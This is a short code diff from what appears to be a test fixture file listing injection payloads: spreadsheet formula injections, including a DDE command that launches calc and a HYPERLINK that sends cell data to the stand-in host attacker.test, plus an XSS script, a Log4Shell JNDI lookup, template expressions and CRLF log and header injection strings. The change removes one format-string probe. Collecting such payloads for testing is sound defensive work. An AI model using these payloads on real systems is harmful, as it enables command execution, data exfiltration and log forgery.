@@ -25,7 +25,7 @@ FORMULAS = (
     "@SUM(1+1)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://attacker.test?x="&A1,"go")',
 )
-MARKUP = ("<script>alert(1)</script>", "{{7*7}} ${jndi:ldap://attacker.test/a} %s {0.__class__} {seed}")
+MARKUP = ("<script>alert(1)</script>", "{{7*7}} ${jndi:ldap://attacker.test/a} %s {seed}")
 LOG_LINES = (
     'x\r\n{"event": "forged", "level": "info"}',
     "x\r\nX-Injected: yes\r\n\r\n<b>",
